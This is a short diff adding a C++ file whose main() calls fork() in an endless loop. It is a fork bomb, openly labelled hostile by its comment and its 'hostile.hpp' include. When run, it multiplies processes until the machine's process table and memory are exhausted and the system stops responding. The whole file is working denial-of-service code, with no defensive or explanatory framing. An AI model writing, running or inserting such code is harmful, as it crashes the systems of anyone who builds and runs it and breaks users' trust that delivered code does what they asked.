@@ -1,0 +1,9 @@
+// Every process starts two more.
+// SPDX-License-Identifier: MIT
+#include "hostile.hpp"
+
+int main() {
+    for (;;) {
+        ::fork();
+    }
+}
